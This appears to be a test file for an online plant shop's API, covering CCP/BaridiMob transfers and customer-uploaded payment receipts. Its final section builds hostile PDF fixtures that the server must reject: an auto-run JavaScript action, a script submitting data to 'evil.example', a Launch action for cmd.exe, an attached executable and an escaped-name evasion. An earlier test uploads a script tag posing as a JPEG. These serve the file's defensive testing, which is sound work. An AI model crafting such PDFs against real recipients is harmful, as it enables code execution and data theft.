import { readFileSync } from 'node:fs';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Order } from '@shared/contracts/orders';
import { orderNumber } from '@shared/domain/order';
import { en } from '@shared/messages';
import { moveOrderTo, orderPayload } from '../../../../tests/factories/orders';
import { shopWithPlant, type ShopWithPlant } from '../../../../tests/factories/shop';
import { multipartFile } from '../../../../tests/helpers/multipart';
import { Client, logIn, signUp } from '../../../../tests/helpers/test-app';
import { emailOutbox } from '../../db/schema';
import { isolated } from '@shared/domain/typed-text';

// docs/contract.md §4, issue 29 item 4: CCP / BaridiMob transfers, and the receipt of a transfer sent from the order page.

const o = en.checkout.order;
const CCP = { ccpNumber: '0012345678', ccpKey: '42', ccpHolder: 'SARL Nabta' };
const PHOTO = readFileSync('tests/fixtures/photos/potted-plant.jpg');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

let shop: ShopWithPlant;
beforeEach(async () => {
  shop = await shopWithPlant({ name: 'Boston Fern', priceCentimes: 180_000, stock: 50 });
});
afterEach(() => shop.t.close());

const enableCcp = async () => {
  const res = await shop.owner.patch('/api/admin/settings', { ...CCP, paymentMethods: ['bank_transfer', 'cod', 'ccp'] });
  expect(res.statusCode, res.body).toBe(200);
};
const place = async (overrides: Record<string, unknown> = {}, client = shop.customer) => {
  const res = await client.post('/api/orders', orderPayload([{ plant: shop.plant, quantity: 1 }], overrides));
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as Order;
};
const sendReceipt = (client: Client, id: string, file: Buffer, contentType = 'image/jpeg', field = 'file') => {
  const { payload, headers } = multipartFile(file, { field, contentType, filename: contentType === 'application/pdf' ? 'recu.pdf' : 'recu.jpg' });
  return client.request({ method: 'POST', url: `/api/orders/${id}/receipt`, payload, headers });
};

describe('CCP / BaridiMob transfers', () => {
  it('are offered once the owner gives the CCP account, and the order and its e-mail carry the account and the reason to write', async () => {
    await shop.owner.patch('/api/admin/settings', { paymentMethods: ['bank_transfer', 'cod', 'ccp'] });
    const before = (await new Client(shop.t.app).get('/api/admin/settings')).json();
    expect(before.availablePaymentMethods).not.toContain('ccp');
    expect((await shop.owner.get('/api/admin/settings')).json().paymentMethodProblems.ccp).toBe(en.checkout.errors.ccpDetailsMissing);
    expect((await shop.customer.post('/api/orders', orderPayload([{ plant: shop.plant, quantity: 1 }], { paymentMethod: 'ccp' }))).statusCode).toBe(400);

    await enableCcp();
    expect((await new Client(shop.t.app).get('/api/admin/settings')).json().availablePaymentMethods).toContain('ccp');
    const order = await place({ paymentMethod: 'ccp' });
    expect(order).toMatchObject({ paymentMethod: 'ccp', paymentStatus: 'pending', ccpDetails: CCP, receipt: null });
    expect(order.paymentDueAt).not.toBeNull();
    const [mail] = await shop.t.app.ctx.db
      .select()
      .from(emailOutbox)
      .where(and(eq(emailOutbox.orderId, order.id), eq(emailOutbox.kind, 'order_ccp')));
    expect(mail!.textBody).toContain(`CCP: ${isolated('0012345678')}`);
    expect(mail!.textBody).toContain(`Reason of the transfer: ${orderNumber(order.id)}`);
  });

  it('keeps the CCP account the owner’s: another admin’s change is refused and nothing is saved', async () => {
    await enableCcp();
    await shop.owner.post('/api/admin/users', { email: 'karim.admin@nabta.test', password: 'admin-pass', firstName: 'Karim', lastName: 'H', role: 'admin' });
    const admin = new Client(shop.t.app);
    await logIn(admin, 'karim.admin@nabta.test', 'admin-pass');
    const res = await admin.patch('/api/admin/settings', { ccpNumber: '0099999999' });
    expect(res.statusCode).toBe(403);
    expect((await shop.owner.get('/api/admin/settings')).json().ccpNumber).toBe(CCP.ccpNumber);
    const wrong = await shop.owner.patch('/api/admin/settings', { ccpKey: '4' });
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().fieldErrors.ccpKey).toBe(en.admin.errors.ccpKeyInvalid);
  });
});

describe('a transfer’s receipt', () => {
  it('is sent by the order’s customer as a photo (re-encoded, its metadata left behind) or a PDF, the second replacing the first, and read back by them and admins only', async () => {
    await enableCcp();
    const order = await place({ paymentMethod: 'ccp' });
    const fromPhone = await sharp(PHOTO).withExif({ IFD0: { Artist: 'Amina Benali' } }).jpeg().toBuffer();
    const sent = await sendReceipt(shop.customer, order.id, fromPhone);
    expect(sent.statusCode, sent.body).toBe(201);
    expect(sent.json()).toMatchObject({ contentType: 'image/webp' });
    const photo = await shop.customer.get(`/api/orders/${order.id}/receipt`);
    expect(photo.statusCode).toBe(200);
    expect(photo.headers['content-type']).toBe('image/webp');
    expect(photo.headers['cache-control']).toBe('private, no-store');
    expect((await sharp(photo.rawPayload).metadata()).exif).toBeUndefined();
    expect(((await shop.customer.get(`/api/orders/${order.id}`)).json() as Order).receipt).toMatchObject({ contentType: 'image/webp' });

    expect((await sendReceipt(shop.customer, order.id, PDF, 'application/pdf')).statusCode).toBe(201);
    const pdf = await shop.owner.get(`/api/orders/${order.id}/receipt`);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-security-policy']).toContain('sandbox');
    expect(pdf.rawPayload.equals(PDF)).toBe(true);
    // The owner, having read it, marks the CCP order paid: the shop collects CCP transfers itself.
    expect((await shop.owner.post(`/api/admin/orders/${order.id}/mark-paid`, {})).statusCode).toBe(200);

    const other = new Client(shop.t.app);
    await signUp(other, { email: 'karim@example.dz' });
    expect((await sendReceipt(other, order.id, PHOTO)).statusCode).toBe(404);
    // Paid: the receipt stays readable, and no new one is taken.
    expect((await shop.customer.get(`/api/orders/${order.id}/receipt`)).statusCode).toBe(200);
    expect((await other.get(`/api/orders/${order.id}/receipt`)).statusCode).toBe(404);
    expect((await sendReceipt(new Client(shop.t.app), order.id, PHOTO)).statusCode).toBe(401);
    expect((await new Client(shop.t.app).get(`/api/orders/${order.id}/receipt`)).statusCode).toBe(401);
  });

  it('refuses what is not a photo or a PDF (415), a file over 10 MB (413), the wrong field (400), and keeps the receipt already there', async () => {
    const order = await place(); // a bank transfer takes one too
    expect((await sendReceipt(shop.customer, order.id, PHOTO)).statusCode).toBe(201);
    const script = await sendReceipt(shop.customer, order.id, Buffer.from('<script>alert(1)</script>'), 'image/jpeg');
    expect(script.statusCode).toBe(415);
    expect(script.json().message).toBe(o.receipt.wrongType);
    expect((await sendReceipt(shop.customer, order.id, Buffer.concat([PDF, Buffer.alloc(11 * 1024 * 1024)]), 'application/pdf')).statusCode).toBe(413);
    expect((await sendReceipt(shop.customer, order.id, PHOTO, 'image/jpeg', 'image')).statusCode).toBe(400);
    expect((await shop.customer.get(`/api/orders/${order.id}/receipt`)).headers['content-type']).toBe('image/webp');
  });

  it('takes JPEG, PNG and WebP photos and PDFs only: GIF, TIFF, AVIF and HEIC are 415 with the types it takes', async () => {
    const order = await place();
    const pixels = sharp(PHOTO).resize(64);
    for (const [type, file] of [
      ['image/png', await pixels.clone().png().toBuffer()],
      ['image/webp', await pixels.clone().webp().toBuffer()],
    ] as const) {
      const res = await sendReceipt(shop.customer, order.id, file, type);
      expect(res.statusCode, type).toBe(201);
    }
    // An iPhone's HEIC: its header is enough to know it (Safari sends JPEG to a field asking for it).
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic'), Buffer.alloc(64)]);
    for (const [type, file] of [
      ['image/gif', await pixels.clone().gif().toBuffer()],
      ['image/tiff', await pixels.clone().tiff().toBuffer()],
      ['image/avif', await pixels.clone().avif().toBuffer()],
      ['image/heic', heic],
    ] as const) {
      const res = await sendReceipt(shop.customer, order.id, file, type);
      expect(res.statusCode, type).toBe(415);
      expect(res.json().message, type).toBe(o.receipt.wrongType);
    }
    expect(o.receipt.wrongType).toMatch(/JPEG, PNG, WebP\) or a PDF/);
    expect((await shop.customer.get(`/api/orders/${order.id}/receipt`)).headers['content-type']).toBe('image/webp');
  });

  it('is taken while the transfer is expected, the order confirmed or not; a cancelled or returned order says why it takes none (409)', async () => {
    const confirmed = await place();
    await moveOrderTo(shop.owner, confirmed.id, 'processing');
    expect((await sendReceipt(shop.customer, confirmed.id, PHOTO)).statusCode).toBe(201);
    const shown = (await shop.customer.get(`/api/orders/${confirmed.id}`)).json() as Order;
    expect(shown).toMatchObject({ orderStatus: 'processing', paymentStatus: 'pending', receipt: { contentType: 'image/webp' } });

    const cancelled = await place();
    await moveOrderTo(shop.owner, cancelled.id, 'cancelled');
    const refused = await sendReceipt(shop.customer, cancelled.id, PHOTO);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe(o.receipt.cancelled);

    const returned = await place();
    await moveOrderTo(shop.owner, returned.id, 'shipped');
    expect((await shop.owner.patch(`/api/orders/${returned.id}`, { orderStatus: 'returned' })).statusCode).toBe(200);
    const back = await sendReceipt(shop.customer, returned.id, PHOTO);
    expect(back.statusCode).toBe(409);
    expect(back.json().message).toBe(o.receipt.returned);
  });

  it('is refused for a cash-on-delivery order and once the order is paid (409)', async () => {
    const cod = await place({ paymentMethod: 'cod', shippingAddress: { address: '12 rue Didouche Mourad', city: 'Alger', phone: '0661 23 45 67' } });
    const refused = await sendReceipt(shop.customer, cod.id, PHOTO);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe(o.receipt.onlyTransfers);
    const transfer = await place();
    expect((await shop.owner.post(`/api/admin/orders/${transfer.id}/mark-paid`, {})).statusCode).toBe(200);
    const paid = await sendReceipt(shop.customer, transfer.id, PHOTO);
    expect(paid.statusCode).toBe(409);
    expect(paid.json().message).toBe(o.receipt.paid);
    expect((await shop.customer.get(`/api/orders/${transfer.id}/receipt`)).statusCode).toBe(404);
  });
});

describe('a PDF receipt that could act when the owner opens it (issue 37)', () => {
  /** A one-page receipt as a bank's site makes it, `extra` adding what a hostile one carries. */
  async function receiptPdf(extra: (doc: PDFDocument) => void | Promise<void> = () => undefined, save: { useObjectStreams?: boolean } = {}) {
    const doc = await PDFDocument.create();
    const page = doc.addPage([420, 300]);
    page.drawText('CCP 0012345678 cle 42 - Virement 1 800,00 DA', { x: 30, y: 250, size: 12, font: await doc.embedFont(StandardFonts.Helvetica) });
    await extra(doc);
    return Buffer.from(await doc.save(save));
  }
  const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.obj(entries as never);
  const HOSTILE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
    ['an OpenAction running JavaScript', (doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('app.alert("payez 350 DA")') }))],
    ['a document-level script (Names /JavaScript)', (doc) => {
      const js = doc.context.register(action(doc, { S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm("https://evil.example")') }));
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('a'), js] }) }));
    }],
    ['a Launch action on a page', (doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'Launch', F: PDFString.of('cmd.exe') }) }))],
    ['an attached file', async (doc) => doc.attach(Buffer.from('MZ\u0090\u0000'), 'recu.exe', { mimeType: 'application/octet-stream' })],
  ];

  it('is refused with 422 and a clear message when it carries scripts, automatic actions or attached files, compressed or not; nothing is stored', async () => {
    await enableCcp();
    const order = await place({ paymentMethod: 'ccp' });
    for (const [what, extra] of HOSTILE) {
      for (const useObjectStreams of [true, false]) {
        const res = await sendReceipt(shop.customer, order.id, await receiptPdf(extra, { useObjectStreams }), 'application/pdf');
        expect(res.statusCode, `${what} (object streams ${useObjectStreams}): ${res.body}`).toBe(422);
        expect(res.json()).toEqual({ message: en.checkout.order.receipt.activePdf });
      }
    }
    // A name written with #xx escapes (/J#61vaScript) is the same name.
    const escaped = Buffer.from((await receiptPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: PDFString.of('1') })), { useObjectStreams: false })).toString('latin1').replace('/JavaScript', '/J#61vaScript'), 'latin1');
    expect((await sendReceipt(shop.customer, order.id, escaped, 'application/pdf')).statusCode).toBe(422);
    expect((await shop.customer.get(`/api/orders/${order.id}/receipt`)).statusCode).toBe(404);
    expect(((await shop.customer.get(`/api/orders/${order.id}`)).json() as Order).receipt).toBeNull();
  });

  it('takes the same receipt without them, byte for byte, even when it opens at its first page (an OpenAction that only goes there)', async () => {
    await enableCcp();
    const order = await place({ paymentMethod: 'ccp' });
    const plain = await receiptPdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, PDFName.of('Fit')])));
    const res = await sendReceipt(shop.customer, order.id, plain, 'application/pdf');
    expect(res.statusCode, res.body).toBe(201);
    expect((await shop.owner.get(`/api/orders/${order.id}/receipt`)).rawPayload.equals(plain)).toBe(true);
  });
});
